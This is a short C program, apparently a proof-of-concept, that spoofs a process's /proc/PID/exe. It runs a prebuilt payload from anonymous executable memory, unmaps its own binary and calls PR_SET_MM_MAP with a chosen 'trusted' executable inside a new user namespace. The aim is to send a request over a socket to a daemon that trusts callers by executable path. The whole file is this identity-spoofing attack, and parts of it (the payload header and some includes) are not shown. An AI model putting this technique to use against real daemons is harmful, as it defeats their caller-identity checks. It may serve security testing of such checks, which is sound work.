/* Make /proc/PID/exe say something else: PR_SET_MM_MAP with exe_fd, which a user namespace of one's own allows.
 *
 * Usage: setmm SOCKET REQUEST TRUSTED own|child
 *   own: this process enters a user namespace. child: a child that shares our memory (CLONE_VM) does, and changes the
 *   executable of that memory, so ours; our own namespaces stay those of the daemon.
 *   The kernel allows it once nothing of the old executable is mapped, so the code moves to anonymous memory.
 */
#include "payload.h"
#include "prctl_map.h"
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

extern char __executable_start, _end;

int main(int count, char **words) {
    if (count != 5) return 2;
    int own = !strcmp(words[4], "own");
    char *memory = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct order *order = (struct order *)(memory + 8192);
    struct prctl_mm_map *map = (struct prctl_mm_map *)(memory + 32768);
    memcpy(memory, (void *)payload, PAYLOAD_BYTES);
    fill_order(order, words[1], words[2]);
    fill_map(map, open(words[3], O_RDONLY | O_CLOEXEC));
    order->map = map;
    order->map_bytes = sizeof *map;
    uintptr_t start = (uintptr_t)&__executable_start & ~4095UL;
    order->unmap[0].start = (void *)start;
    order->unmap[0].length = (((uintptr_t)&_end + 4095) & ~4095UL) - start;
    order->unmaps = 1;
    if (own && unshare(CLONE_NEWUSER)) return 6;
    if (!own) order->clone_flags = CLONE_VM | CLONE_VFORK | CLONE_NEWUSER | SIGCHLD;
    ((void (*)(struct order *))memory)(order);
}
